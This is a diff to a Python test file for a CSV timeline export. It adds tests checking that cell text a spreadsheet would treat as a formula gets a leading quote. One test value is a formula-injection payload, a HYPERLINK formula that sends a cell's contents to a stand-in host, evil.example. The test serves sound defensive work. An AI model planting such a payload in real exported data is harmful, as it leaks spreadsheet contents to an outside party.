@@ -154,7 +154,7 @@ def test_run_summaries_give_one_row_per_run_of_a_resumed_thread():
 
 
 def _csv_records(text: str) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(text)))
+    return list(csv.DictReader(io.StringIO(text, newline="")))
 
 
 def test_csv_starts_with_the_subagent_log_columns_then_ours():
@@ -206,6 +206,30 @@ def test_csv_round_trips_labels_with_commas_quotes_and_korean():
     assert list(frame.columns) == list(CSV_COLUMNS)
     assert frame["label"].tolist() == [label, label]
     assert frame["event"].tolist() == ["START", "END"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "-", "@SUM(A1:A9)", "\tx", "\r=1"])
+def test_csv_text_a_spreadsheet_would_read_as_a_formula_begins_with_a_quote(text):
+    rows = [node_log_row(1, "research", 0.0, 1.5, label=text, status="error", error=text)]
+
+    csv_text = timeline_csv(rows)
+    records = _csv_records(csv_text)
+    frame = pd.read_csv(io.StringIO(csv_text), keep_default_na=False)
+
+    assert [r["label"] for r in records] == ["'" + text, "'" + text]
+    assert records[1]["error"] == "'" + text
+    assert records[1]["subagent_name"] == f"research:{text}"  # begins with the node's name: no formula
+    assert frame["label"].tolist() == ["'" + text, "'" + text]
+
+
+def test_csv_numbers_stay_numbers_a_negative_one_too():
+    records = _csv_records(timeline_csv([node_log_row(1, "input", 0.0, 1.0, step=-1, label="-5")]))
+
+    assert [(r["step"], r["label"]) for r in records] == [("-1", "-5"), ("-1", "-5")]
+    assert records[1]["duration_sec"] == "1.000000"
 
 
 def test_csv_zero_length_call_keeps_start_before_end():
